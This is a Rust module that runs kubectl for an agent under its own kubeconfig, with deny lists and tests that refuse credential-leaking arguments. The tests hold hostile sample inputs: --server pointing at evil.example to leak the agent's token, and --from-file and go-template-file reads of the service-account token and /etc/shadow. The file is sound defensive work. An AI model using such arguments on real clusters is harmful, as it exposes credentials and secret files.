//! `send-kubectl`: the real `kubectl` run as the default actions' identity
//! (`crate::kubernetes::operator`), an argv and never a shell; stdout and
//! stderr in the event.
//!
//! The credentials go into a kubeconfig file in the state directory, mode
//! 0600, rewritten for each run (the pod's token rotates), and `kubectl`
//! gets `--kubeconfig` and `--cache-dir` pointing there, so neither the
//! agent's environment nor a user's `~/.kube` changes what it talks to.

use std::io::Write as _;
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use serde::Deserialize;
use serde_json::Value;
use tokio::io::{AsyncRead, AsyncReadExt as _};

use super::send_api::{BODY_LIMIT, truncate_encoded};
use super::{ActionError, Answer, Kubernetes};

/// Where `send-kubectl` keeps its kubeconfig and discovery cache.
const KUBECTL_DIR: &str = "kubectl";
/// The most of stderr quoted in a failure's status message, which tetherd
/// caps at 8 KiB.
pub(crate) const STDERR_IN_MESSAGE: usize = 4 * 1024;

/// Flags that would make `kubectl` use another server, other credentials or
/// another kubeconfig than the agent's: `--server` sends the agent's token
/// to any host, `--kubeconfig` picks up a kubeconfig of the host (k3s's
/// admin one), `--profile-output` writes a file of the agent's.
const REFUSED_FLAGS: &[&str] = &[
    "--kubeconfig",
    "--server",
    "-s",
    "--token",
    "--username",
    "--password",
    "--certificate-authority",
    "--client-certificate",
    "--client-key",
    "--insecure-skip-tls-verify",
    "--tls-server-name",
    "--context",
    "--cluster",
    "--user",
    "--cache-dir",
    "--profile-output",
    // Read a file of the agent's host into the answer (with --dry-run=client
    // no cluster right is needed): its key, its token.
    "--from-file",
    "--from-env-file",
];

/// Words in any argument that name a local file `kubectl` reads and prints
/// (`-o go-template-file=PATH` renders a file without actions verbatim).
const REFUSED_WORDS: &[&str] = &["template-file", "jsonpath-file"];

/// Commands that print the agent's credentials (`config view --raw`), keep
/// a listener open with them (`proxy`, `port-forward`), write the agent's
/// files (`cp`) or wait for an editor (`edit`).
const REFUSED_COMMANDS: &[&str] = &["config", "proxy", "port-forward", "cp", "edit"];

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KubectlConfig {
    /// The binary; a bare name is looked up in PATH.
    pub program: PathBuf,
    pub timeout: Duration,
}

#[derive(Debug, thiserror::Error)]
pub enum KubectlError {
    #[error("cannot write kubectl's kubeconfig {path}")]
    Kubeconfig {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("cannot run {program}")]
    Spawn {
        program: PathBuf,
        source: std::io::Error,
    },
    #[error("kubectl did not finish within {0:?} and was killed")]
    Timeout(Duration),
}

impl KubectlError {
    pub fn status_code(&self) -> u16 {
        match self {
            KubectlError::Timeout(_) => 504,
            KubectlError::Kubeconfig { .. } | KubectlError::Spawn { .. } => 500,
        }
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Input {
    command: Option<String>,
    arguments: Vec<String>,
    #[serde(rename = "correlationId")]
    _correlation_id: Option<String>,
}

fn parse(input: &Value) -> Result<Vec<String>, ActionError> {
    let input: Input = serde_json::from_value(input.clone())
        .map_err(|e| ActionError::invalid("$", e.to_string()))?;
    match input.command.as_deref() {
        Some("kubectl") => {
            check_arguments(&input.arguments)?;
            Ok(input.arguments)
        }
        Some(other) => Err(ActionError::invalid(
            "$.command",
            format!("only kubectl can be run, not {other:?}"),
        )),
        None => Err(ActionError::invalid(
            "$.command",
            "missing: it must be \"kubectl\"",
        )),
    }
}

/// Refuses the arguments that would escape the agent's kubeconfig or reach
/// the agent's own files and listeners; `kubectl` itself checks the rest.
fn check_arguments(arguments: &[String]) -> Result<(), ActionError> {
    let refused =
        |index: usize, why: String| Err(ActionError::invalid(format!("$.arguments[{index}]"), why));
    // The command is the first word that is not a flag; a word after a
    // flag without `=` may be that flag's value or the command, so it is
    // checked too (`-n ns proxy`, `--v 9 proxy`).
    let mut after_flag = false;
    let mut command_seen = false;
    for (index, argument) in arguments.iter().enumerate() {
        let flag = argument
            .split_once('=')
            .map_or(argument.as_str(), |(f, _)| f);
        if REFUSED_FLAGS.contains(&flag) || sets_server_by_shorthand(argument) {
            return refused(
                index,
                format!(
                    "{flag} is refused: kubectl runs with the agent's own kubeconfig and never reads the agent's files"
                ),
            );
        }
        if let Some(word) = REFUSED_WORDS.iter().find(|w| argument.contains(*w)) {
            return refused(
                index,
                format!("{word} is refused: kubectl never reads the agent's files"),
            );
        }
        if argument.starts_with('-') {
            after_flag = !argument.contains('=');
            continue;
        }
        if !command_seen && REFUSED_COMMANDS.contains(&argument.as_str()) {
            return refused(
                index,
                format!(
                    "kubectl {argument} is refused: it would expose the agent's credentials or files, or never finish"
                ),
            );
        }
        command_seen |= !after_flag;
        after_flag = false;
    }
    Ok(())
}

/// Whether a group of one-letter flags sets `-s` (`--server`): `-shttp://h`
/// and `-As` do, as pflag reads them; the letters before it must be
/// switches, since a letter that takes a value takes the rest as it
/// (`-nstaging` is a namespace).
fn sets_server_by_shorthand(argument: &str) -> bool {
    let Some(letters) = argument.strip_prefix('-').filter(|l| !l.starts_with('-')) else {
        return false;
    };
    for letter in letters.chars() {
        match letter {
            's' => return true,
            // kubectl's one-letter switches (-A all namespaces, -w watch, ...).
            'A' | 'w' | 'i' | 't' | 'q' | 'R' | 'h' | 'p' | 'W' => continue,
            _ => return false,
        }
    }
    false
}

pub async fn run(input: &Value, kubernetes: &Kubernetes) -> Result<Answer, ActionError> {
    let arguments = parse(input)?;
    let access = kubernetes.operator_access().await?;
    let dir = kubernetes.state_dir.join(KUBECTL_DIR);
    let kubeconfig = dir.join("kubeconfig");
    write_private(
        &kubeconfig,
        &serde_json::to_vec(&access.kubeconfig()).unwrap_or_default(),
    )
    .map_err(|source| KubectlError::Kubeconfig {
        path: kubeconfig.clone(),
        source,
    })?;
    let run = execute(
        &kubernetes.kubectl,
        &kubeconfig,
        &dir.join("cache"),
        &arguments,
    )
    .await?;
    let (output, cut) = truncate_encoded(
        String::from_utf8_lossy(&[&run.stdout[..], &run.stderr[..]].concat()).into_owned(),
        BODY_LIMIT,
    );
    let truncated = if run.truncated || cut {
        " (output cut to its first MiB)"
    } else {
        ""
    };
    if run.code == Some(0) {
        return Ok(Answer {
            status_code: 200,
            status_message: format!("OK{truncated}"),
            response: Value::String(output),
        });
    }
    let exit = run.code.map_or_else(
        || "was killed by a signal".to_owned(),
        |c| format!("exited {c}"),
    );
    let (stderr, _) = truncate_encoded(
        String::from_utf8_lossy(&run.stderr).trim().to_owned(),
        STDERR_IN_MESSAGE,
    );
    Ok(Answer {
        status_code: 500,
        status_message: format!("kubectl {exit}{truncated}: {stderr}"),
        response: Value::String(output),
    })
}

/// Writes `bytes` to `path` readable by the agent's user only; the file is
/// created 0600 (never briefly wider) and the directory 0700.
fn write_private(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    use std::os::unix::fs::DirBuilderExt as _;
    if let Some(dir) = path.parent() {
        std::fs::DirBuilder::new()
            .recursive(true)
            .mode(0o700)
            .create(dir)?;
    }
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)?;
    file.write_all(bytes)
}

struct Run {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
    truncated: bool,
}

async fn execute(
    kubectl: &KubectlConfig,
    kubeconfig: &Path,
    cache: &Path,
    arguments: &[String],
) -> Result<Run, KubectlError> {
    let mut child = tokio::process::Command::new(&kubectl.program)
        .arg("--kubeconfig")
        .arg(kubeconfig)
        .arg("--cache-dir")
        .arg(cache)
        .args(arguments)
        // The file above, not whatever the agent's environment names.
        .env_remove("KUBECONFIG")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .map_err(|source| KubectlError::Spawn {
            program: kubectl.program.clone(),
            source,
        })?;
    let stdout = child.stdout.take();
    let stderr = child.stderr.take();
    let finished = async {
        let (out, err, status) = tokio::join!(
            capped(stdout, BODY_LIMIT),
            capped(stderr, BODY_LIMIT),
            child.wait()
        );
        (out, err, status)
    };
    // On timeout the future, and with it the child, is dropped: killed.
    let ((stdout, out_cut), (stderr, err_cut), status) =
        tokio::time::timeout(kubectl.timeout, finished)
            .await
            .map_err(|_| KubectlError::Timeout(kubectl.timeout))?;
    Ok(Run {
        code: status.ok().and_then(|s| s.code()),
        stdout,
        stderr,
        truncated: out_cut || err_cut,
    })
}

/// Reads a stream to its end, keeping the first `limit` bytes; the rest is
/// read and dropped so that the child never blocks on a full pipe.
async fn capped(stream: Option<impl AsyncRead + Unpin>, limit: usize) -> (Vec<u8>, bool) {
    let Some(mut stream) = stream else {
        return (Vec::new(), false);
    };
    let mut kept = Vec::new();
    let mut cut = false;
    let mut buf = vec![0u8; 16 * 1024];
    loop {
        match stream.read(&mut buf).await {
            Ok(0) | Err(_) => return (kept, cut),
            Ok(n) => {
                let room = limit - kept.len();
                if n > room {
                    cut = true;
                }
                kept.extend_from_slice(&buf[..n.min(room)]);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn only_kubectl_with_string_arguments_is_run() {
        assert_eq!(
            parse(&json!({"command": "kubectl", "arguments": ["get", "pods"]})).expect("valid"),
            ["get", "pods"]
        );
        for (bad, path) in [
            (
                json!({"command": "sh", "arguments": ["-c", "id"]}),
                "$.command",
            ),
            (json!({"arguments": ["get"]}), "$.command"),
            (json!({"command": "kubectl"}), "$"),
            (json!({"command": "kubectl", "arguments": "get pods"}), "$"),
            (json!({"command": "kubectl", "arguments": [3]}), "$"),
        ] {
            let err = parse(&bad).expect_err("refused");
            assert_eq!(err.status_code(), 400);
            assert!(err.to_string().starts_with(path), "{bad}: {err}");
        }
    }

    #[test]
    fn arguments_that_escape_the_agents_kubeconfig_or_reach_its_files_are_refused() {
        let check = |arguments: &[&str]| {
            parse(&json!({"command": "kubectl", "arguments": arguments}))
                .map(|_| ())
                .map_err(|e| (e.status_code(), e.to_string()))
        };
        for fine in [
            &["get", "pods", "-n", "kube-system"][..],
            &["-n", "kube-system", "get", "pods"],
            &["--namespace=default", "logs", "proxy"],
            &["get", "deployment", "config", "-o", "yaml"],
            &["apply", "-f", "https://example.com/app.yaml"],
            &["get", "ns", "-o", "go-template={{.metadata.name}}"],
            &["-nstaging", "get", "pods", "-w"],
        ] {
            assert_eq!(check(fine), Ok(()), "{fine:?}");
        }
        for (bad, at, word) in [
            (
                &["get", "pods", "--server=https://evil.example"][..],
                2,
                "--server",
            ),
            (
                &["--server", "https://evil.example", "get", "pods"],
                0,
                "--server",
            ),
            (&["get", "pods", "-s", "http://evil.example"], 2, "-s"),
            (&["get", "pods", "-shttp://evil.example"], 2, "-shttp"),
            (&["get", "pods", "-As", "http://evil.example"], 2, "-As"),
            (
                &["--kubeconfig=/etc/rancher/k3s/k3s.yaml", "get", "nodes"],
                0,
                "--kubeconfig",
            ),
            (&["get", "pods", "--token", "t"], 2, "--token"),
            (
                &["get", "pods", "--insecure-skip-tls-verify"],
                2,
                "--insecure-skip-tls-verify",
            ),
            (
                &[
                    "get",
                    "pods",
                    "--certificate-authority=/etc/ssl/certs/ca-certificates.crt",
                ],
                2,
                "--certificate-authority",
            ),
            (
                &[
                    "create",
                    "secret",
                    "generic",
                    "x",
                    "--from-file=/var/run/secrets/kubernetes.io/serviceaccount/token",
                    "--dry-run=client",
                ],
                4,
                "--from-file",
            ),
            (
                &["get", "ns", "default", "-o", "go-template-file=/etc/shadow"],
                4,
                "template-file",
            ),
            (
                &["get", "ns", "-ojsonpath-file=/etc/shadow"],
                2,
                "jsonpath-file",
            ),
            (&["config", "view", "--raw"], 0, "config"),
            (&["proxy", "--address=0.0.0.0"], 0, "proxy"),
            (
                &["-n", "default", "port-forward", "svc/x", "8080"],
                2,
                "port-forward",
            ),
            (&["--v", "9", "proxy"], 2, "proxy"),
            (
                &["cp", "default/pod:/x", "/var/lib/tether-agent/x"],
                0,
                "cp",
            ),
            (&["edit", "deployment/x"], 0, "edit"),
        ] {
            let (status, message) = check(bad).expect_err(&format!("{bad:?} refused"));
            assert_eq!(status, 400, "{bad:?}");
            assert!(
                message.starts_with(&format!("$.arguments[{at}]")) && message.contains(word),
                "{bad:?}: {message}"
            );
        }
    }

    #[tokio::test]
    async fn output_is_capped_and_the_stream_drained() {
        let data = vec![b'x'; 100_000];
        let (kept, cut) = capped(Some(&data[..]), 1000).await;
        assert_eq!((kept.len(), cut), (1000, true));
        let (kept, cut) = capped(Some(&data[..]), 100_000).await;
        assert_eq!((kept.len(), cut), (100_000, false));
    }

    #[test]
    fn the_kubeconfig_is_private() {
        use std::os::unix::fs::PermissionsExt as _;
        let dir = tempfile::tempdir().expect("dir");
        let path = dir.path().join("kubectl/kubeconfig");
        write_private(&path, b"a").expect("writes");
        write_private(&path, b"b").expect("rewrites");
        let mode = std::fs::metadata(&path)
            .expect("exists")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
        assert_eq!(std::fs::read(&path).expect("reads"), b"b");
    }
}
